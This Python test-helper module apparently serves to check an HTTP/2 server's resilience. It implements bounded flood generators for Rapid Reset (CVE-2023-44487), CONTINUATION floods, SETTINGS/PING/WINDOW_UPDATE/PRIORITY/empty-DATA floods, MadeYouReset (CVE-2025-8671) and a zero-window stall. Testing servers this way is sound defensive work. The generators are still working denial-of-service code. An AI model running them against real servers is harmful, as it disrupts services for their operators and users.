"""HTTP/2 floods, scripted frame by frame over a RawH2 connection (tests/h2util.py).

Each attack is a generator of byte chunks (a batch of frames each) that `attack()` writes until
the server ends the connection (GOAWAY or close), the chunks run out or the time is up. Counts
are bounded: every flood is seconds of traffic, not minutes. Requests an attack makes use paths
under /attack/NAME/ so a test can count how many reached a backend.
"""

from __future__ import annotations

import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from h2util import (
    CANCEL,
    CONTINUATION,
    HEADER_TABLE_SIZE,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    RawH2,
    data_frame,
    frame,
    ping_frame,
    priority_frame,
    rst_stream_frame,
    settings_frame,
    window_update_frame,
)

Attack = Callable[[RawH2], Iterator[bytes]]


@dataclass
class Outcome:
    raw: RawH2
    chunks: int  # chunks written before the end
    took: float  # seconds from the first write to the end of the connection (or the give-up)
    ended: bool


def attack(port: int, fn: Attack, limit_s: float, settings: dict[int, int] | None = None) -> Outcome:
    """Runs `fn` on a new connection; waits up to `limit_s` (from the first write) for its end."""
    raw = RawH2(port, settings)
    t0 = time.monotonic()
    chunks = 0
    for chunk in fn(raw):
        if raw.ended() or time.monotonic() - t0 > limit_s or not raw.send(chunk):
            break
        chunks += 1
    ended = raw.wait_ended(max(0.0, limit_s - (time.monotonic() - t0)))
    return Outcome(raw, chunks, (raw.ended_at or time.monotonic()) - t0, ended)


def batched(frames: Iterator[bytes], per: int = 500) -> Iterator[bytes]:
    batch: list[bytes] = []
    for f in frames:
        batch.append(f)
        if len(batch) >= per:
            yield b"".join(batch)
            batch = []
    if batch:
        yield b"".join(batch)


# --- the floods ----------------------------------------------------------------------------------


def rapid_reset(n: int = 5000) -> Attack:
    """CVE-2023-44487: HEADERS and at once RST_STREAM, `n` streams, never waiting for answers."""

    def run(raw: RawH2) -> Iterator[bytes]:
        def frames() -> Iterator[bytes]:
            for i in range(n):
                sid = raw.new_stream()
                yield raw.headers_frame(sid, path=f"/attack/rapid-reset/{i}") + rst_stream_frame(sid, CANCEL)

        yield from batched(frames(), 100)

    return run


def continuation_flood(empty: bool) -> Attack:
    """CVE-2024-27316 and kin: a HEADERS without END_HEADERS, then CONTINUATION frames without it,
    "forever": 4096 frames of 16 KB of header fields (64 MB, `empty` False) or 200,000 frames
    without payload (`empty` True)."""
    frames_max = 200_000 if empty else 4096
    # a literal header field without indexing, new name (RFC 7541 6.2.2): x-flood: 100 x "v"
    field = b"\x00\x07x-flood\x64" + b"v" * 100
    junk = field * (16000 // len(field))

    def run(raw: RawH2) -> Iterator[bytes]:
        sid = raw.new_stream()
        yield frame(HEADERS, 0, sid, raw.header_block(path="/attack/continuation"))
        payload = b"" if empty else junk
        per = 1000 if empty else 8
        yield from batched((frame(CONTINUATION, 0, sid, payload) for _ in range(frames_max)), per)

    return run


def control_flood(kind: str, n: int = 100_000) -> Attack:
    """Frames that cost the server work and bring it nothing: SETTINGS (each to be acknowledged),
    PING (each to be answered), WINDOW_UPDATE of 1 on the connection, PRIORITY on idle streams,
    empty DATA on an open stream."""

    def run(raw: RawH2) -> Iterator[bytes]:
        if kind == "settings":
            one: Callable[[int], bytes] = lambda i: settings_frame({HEADER_TABLE_SIZE: 4096})  # noqa: E731
        elif kind == "ping":
            one = lambda i: ping_frame(i.to_bytes(8, "big"))  # noqa: E731
        elif kind == "window_update":
            one = lambda i: window_update_frame(0, 1)  # noqa: E731
        elif kind == "priority":
            one = lambda i: priority_frame(2 * i + 1001, 0, i % 256)  # noqa: E731
        elif kind == "empty_data":
            sid = raw.new_stream()
            yield raw.headers_frame(sid, "POST", "/attack/empty-data", end_stream=False)
            one = lambda i: data_frame(sid, b"")  # noqa: E731
        else:
            raise ValueError(kind)
        yield from batched((one(i) for i in range(n)), 1000)

    return run


def made_you_reset(n: int = 3000) -> Attack:
    """MadeYouReset (CVE-2025-8671): frames that make the server reset streams itself: a
    WINDOW_UPDATE that overflows a stream's window (FLOW_CONTROL_ERROR), DATA on a stream the
    client already half-closed (STREAM_CLOSED); `n` streams, alternating."""

    def run(raw: RawH2) -> Iterator[bytes]:
        def frames() -> Iterator[bytes]:
            for i in range(n):
                sid = raw.new_stream()
                head = raw.headers_frame(sid, path=f"/attack/made-you-reset/{i}")  # END_STREAM
                if i % 2:
                    yield head + window_update_frame(sid, 0x7FFFFFFF) + window_update_frame(sid, 0x7FFFFFFF)
                else:
                    yield head + data_frame(sid, b"after the end")

        yield from batched(frames(), 50)

    return run


def zero_window(streams: int, size: int) -> tuple[dict[int, int], Attack]:
    """A client that announces a stream window of 0 and never opens it, while asking for `streams`
    bodies of `size` bytes: the server can send none of them. (settings, attack)"""

    def run(raw: RawH2) -> Iterator[bytes]:
        yield b"".join(raw.headers_frame(raw.new_stream(), path=f"/big/{size}") for _ in range(streams))

    return {INITIAL_WINDOW_SIZE: 0}, run


__all__ = [
    "Outcome",
    "attack",
    "continuation_flood",
    "control_flood",
    "made_you_reset",
    "rapid_reset",
    "zero_window",
]
